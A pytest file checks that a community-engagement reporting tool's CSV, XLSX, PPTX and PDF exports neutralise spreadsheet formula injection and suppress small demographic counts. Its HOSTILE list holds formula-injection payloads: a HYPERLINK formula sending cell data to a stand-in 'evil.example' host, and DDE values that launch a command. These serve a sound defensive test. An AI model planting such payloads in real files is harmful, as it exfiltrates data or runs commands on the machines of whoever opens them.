"""No export carries a live formula or a suppressed count.

Data go in through the real upload path (wpc.ingest) into a database built from the hand-made
Toyshire reference folder, and come out through the real exports: the page downloads (the
same calls wpc.ui.widgets makes) and `wpc export`."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import zipfile

import openpyxl
import pytest
from pptx import Presentation
from typer.testing import CliRunner

from tests.fixtures.ingest_files import ingest, write
from wpc import db, measures
from wpc.views import reach as reach_view
from wpc.cli import app
from wpc.export.tables import FORMULA_STARTS, for_download, to_csv_bytes, to_xlsx_bytes
from wpc.measures import Scope, cellkey, log
from wpc.measures.disclosure import round_to_5

TODAY = "2025-10-01"
runner = CliRunner()
# Leading tabs and carriage returns are trimmed on upload, so those two are tested where the
# files are written (tests/test_export_tables.py); these survive an upload as they are.
HOSTILE = ['=HYPERLINK("http://evil.example/steal?d="&A1,"Click for results")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "+1", "-1", "=1+2", "-2+3+cmd|' /C calc'!A0"]
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def upload_hostile_activities(db_path, folder):
    lines = ["activity_id,title,start_date,place,organisation,method"]
    for i, title in enumerate(HOSTILE):
        quoted = '"' + title.replace('"', '""') + '"'
        lines.append(f"H{i},{quoted},01/01/2025,Northtown,{quoted},survey")
    outcome = ingest(db_path, write(folder / "hostile.csv", "\n".join(lines) + "\n"))
    assert (outcome.stored, outcome.quarantined) == (len(HOSTILE), 0)


def assert_formula_safe(cells: list[str]) -> None:
    for cell in cells:
        if cell.startswith(FORMULA_STARTS):
            assert NUMBER.fullmatch(cell), f"live formula in an export: {cell!r}"


def test_hostile_titles_and_organisations_come_out_as_text(tiny_db, tmp_path):
    upload_hostile_activities(tiny_db, tmp_path)
    scope = Scope.parse("toy", today=TODAY)
    with db.reading(tiny_db) as con:
        activity_log = log.activity_log(con, scope)
    assert sorted(activity_log["title"]) == sorted(HOSTILE)

    # the page's CSV and XLSX buttons (wpc.ui.widgets.downloads)
    page_csv = to_csv_bytes(for_download(activity_log)).decode("utf-8-sig")
    page_cells = [cell for row in csv.reader(io.StringIO(page_csv, newline="")) for cell in row]
    assert_formula_safe(page_cells)
    for title in HOSTILE:
        assert "'" + title in page_cells
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(for_download(activity_log))))
    xlsx_cells = [c for row in book.active.iter_rows() for c in row]
    assert not [c.coordinate for c in xlsx_cells if c.data_type == "f"]
    xlsx_text = [c.value for c in xlsx_cells if isinstance(c.value, str)]
    assert_formula_safe(xlsx_text)
    for title in HOSTILE:
        assert "'" + title in xlsx_text

    # wpc export: the pack's tables (overdue activities by title, feedback by organisation)
    result = runner.invoke(app, ["export", "--db", str(tiny_db), "--format", "csv", "--place", "Northtown",
                                 "--out", str(tmp_path / "tables.zip"), "--today", TODAY])
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(tmp_path / "tables.zip") as archive:
        tables = {n: list(csv.reader(io.StringIO(archive.read(n).decode("utf-8-sig"), newline="")))
                  for n in archive.namelist() if n.endswith(".csv")}
    for rows in tables.values():
        assert_formula_safe([cell for row in rows for cell in row])
    overdue_titles = [row[0] for row in tables["05-feedback-overdue.csv"][1:]]
    assert sorted(overdue_titles) == sorted("'" + t for t in HOSTILE)
    organisations = [row[0] for row in tables["05-feedback-by-organisation.csv"][1:]]
    assert sorted(organisations) == sorted("'" + t for t in HOSTILE)


# ---------- a category of three people


ETHNICITIES = ["white_british"] * 30 + ["asian_indian"] * 12 + ["black_african"] * 3
# 3 and 12 of 45, exact and rounded to 5 (5 and 10 of 45): what suppression must never let out
HIDDEN_SHARES = ("6.7%", "26.7%", "11.1%", "22.2%")


@pytest.fixture
def three_people(tiny_db, tmp_path):
    write(tmp_path / "activities.csv", "activity_id,title,start_date,place,method\n"
          "S1,Listening event,01/06/2025,Northtown,listening event\n")
    assert ingest(tiny_db, tmp_path / "activities.csv").stored == 1
    lines = ["activity_id,participant_ref,lsoa_code,ethnicity,sex"]
    lines += [f"S1,P{i},E01900001,{e},female" for i, e in enumerate(ETHNICITIES)]
    outcome = ingest(tiny_db, write(tmp_path / "participants.csv", "\n".join(lines) + "\n"))
    assert (outcome.stored, outcome.quarantined) == (45, 0)
    return tiny_db


def exported(db_path, fmt, out) -> None:
    result = runner.invoke(app, ["export", "--db", str(db_path), "--format", fmt, "--place", "Northtown",
                                 "--dimension", "ethnicity_group", "--out", str(out), "--today", TODAY])
    assert result.exit_code == 0, result.output


def test_a_category_of_three_people_appears_in_no_export(three_people, chart_renderer, tmp_path):
    scope = Scope.parse("toy", "Northtown", today=TODAY)
    with db.reading(three_people) as con:
        screen = measures.reach(con, scope, "ethnicity_group")
    # on screen (and so in the page downloads): Black (3) hidden, and Asian (12), the next smallest;
    # White (30) shown with a small change
    shown = dict(zip(screen["category"], screen["engaged"], strict=True))
    assert (shown["black"], shown["asian"]) == ("*", "*")
    assert isinstance(shown["white"], int) and abs(shown["white"] - 30) <= cellkey.MAX_CHANGE

    page = reach_view.reach_display(screen)
    page_csv = list(csv.DictReader(io.StringIO(to_csv_bytes(
        for_download(page, reach_view.SHARE_COLUMNS)).decode("utf-8-sig"))))
    hidden = [row for row in page_csv if row["Category"].startswith(("Black", "Asian"))]
    assert [(r["Participants"], r["Share of participants (%)"]) for r in hidden] == [("*", ""), ("*", "")]
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(for_download(page, reach_view.SHARE_COLUMNS))))
    xlsx_rows = [[c.value for c in row] for row in book.active.iter_rows()]
    black = next(r for r in xlsx_rows if str(r[0]).startswith("Black"))
    assert black[1:3] == ["*", None]
    assert not any(v in (3, 12) for row in xlsx_rows[1:] for v in row[1:2])

    exported(three_people, "csv", tmp_path / "tables.zip")
    exported(three_people, "pptx", tmp_path / "pack.pptx")
    exported(three_people, "pdf", tmp_path / "pack.pdf")
    with zipfile.ZipFile(tmp_path / "tables.zip") as archive:
        csv_text = {n: archive.read(n).decode("utf-8-sig") for n in archive.namelist()}
    reach_rows = list(csv.DictReader(io.StringIO(csv_text["02-reach-ethnicity-group.csv"])))
    by_group = {row["Category"].split(",")[0]: row for row in reach_rows}
    assert by_group["Black"]["Participants"] == "*" and by_group["Asian"]["Participants"] == "*"
    # the same people give the same changed count, which publication mode rounds to 5
    assert by_group["White"]["Participants"] == str(int(round_to_5(shown["white"])))
    assert all(row["Participants"] not in ("3", "12") for row in reach_rows)

    deck = Presentation(str(tmp_path / "pack.pptx"))
    reach_slide = deck.slides[2]
    table = next(shape for shape in reach_slide.shapes if shape.has_table).table
    cells = {row.cells[0].text.split(",")[0]: [c.text for c in row.cells] for row in table.rows}
    assert cells["Black"][1:3] == ["*", "–"] and cells["Asian"][1:3] == ["*", "–"]
    pptx_text = "\n".join(
        shape.text_frame.text if shape.has_text_frame else
        "\n".join(cell.text for row in shape.table.rows for cell in row.cells) if shape.has_table else ""
        for slide in deck.slides for shape in slide.shapes)

    pdf_text = subprocess.run(["pdftotext", "-layout", str(tmp_path / "pack.pdf"), "-"], capture_output=True,
                              text=True, check=True).stdout
    reach_page = pdf_text.split("\f")[2]
    # labels wrap over several lines in the PDF's table: the Black row runs from "Black" to "Mixed"
    black_row = reach_page[reach_page.index("Black,"):reach_page.index("Mixed or")]
    assert black_row.split().count("*") == 1 and "–" in black_row.split(), black_row

    for where, text in {"csv": "\n".join(csv_text.values()), "pptx": pptx_text, "pdf": pdf_text}.items():
        for share in HIDDEN_SHARES:
            assert not re.search(r"(?<![\d.])" + re.escape(share), text), f"{share} in the {where} export"
        assert not re.search(r"\b3 (participants|people)\b", text), where
